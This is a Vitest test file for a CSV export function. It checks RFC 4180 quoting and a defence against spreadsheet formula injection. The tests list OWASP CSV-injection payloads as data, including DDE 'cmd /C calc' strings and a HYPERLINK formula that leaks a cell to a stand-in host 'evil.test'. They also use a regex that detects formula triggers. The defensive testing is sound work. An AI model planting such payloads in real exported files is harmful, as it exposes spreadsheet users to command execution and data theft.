// CSV export: quoting per RFC 4180 and the formula-injection guard.
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('csv export', () => {
  it('when a cell holds a comma, quote or line break, then it is quoted and inner quotes are doubled', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line1\nline2')).toBe('"line1\nline2"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
  });

  it('when a text cell starts with = + - @ or a tab, then it is prefixed with a quote so spreadsheets keep it text', () => {
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('when a cell holds any payload of the OWASP CSV-injection list, then no part of it a spreadsheet may split off starts a formula', () => {
    const payloads = [
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.test?leak="&A1, "Click")',
      '=DDE("cmd";"/C calc";"!A0")A0',
      '   =1+1',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
      '\uFF0Bcmd',
      '\uFF0D1',
      '\uFF20SUM(A1)',
      'safe;=1+1',
      'safe, =1+1',
      'safe|=1+1',
      'line one\n=1+1',
      'a;b;@x;+y',
    ];
    const trigger = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;
    for (const payload of payloads) {
      const cell = csvCell(payload);
      // What a spreadsheet reads: the RFC 4180 value, then split on whatever separator it may guess.
      const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      for (const part of value.split(/[,;|\t\r\n]/)) expect(part.trimStart(), payload).not.toMatch(trigger);
    }
    expect(csvCell('   =1+1')).toBe('"   \'=1+1"');
    expect(csvCell('safe;=1+1')).toBe('"safe;\'=1+1"');
    expect(csvCell('\uFF1D1+1')).toBe("'\uFF1D1+1");
  });

  it('when a cell is empty, a number or a boolean, then it is written plainly', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(false)).toBe('false');
  });

  it('when rows are exported, then the header comes first and every line ends with CRLF', () => {
    const rows = [
      { id: 1, text: 'ok' },
      { id: 2, text: '=1+2, "quoted"' },
    ];
    const csv = toCsv(rows, [
      { header: 'ID', value: (row) => row.id },
      { header: 'Text', value: (row) => row.text },
    ]);
    expect(csv).toBe('ID,Text\r\n1,ok\r\n2,"\'=1+2, ""quoted"""\r\n');
  });
});
